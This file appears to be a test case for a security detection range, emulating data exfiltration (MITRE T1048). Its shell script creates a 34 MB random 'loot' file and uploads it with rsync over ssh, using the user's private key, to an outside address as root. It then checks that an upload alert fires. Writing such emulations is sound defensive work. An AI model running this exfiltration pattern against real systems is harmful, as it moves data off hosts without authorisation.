# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with rsync over ssh
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
printf 'exec ssh -F %s -i %s "$@"\n' "$HOME/.ssh/config" "$HOME/.ssh/id_ed25519" >"$HOME/by"
rsync -e "sh $HOME/by" "$HOME/loot.bin" root@203.0.113.10:"$RANGE/hosts/inet/home/"
ok=$?
rm "$HOME/loot.bin"
exit $ok
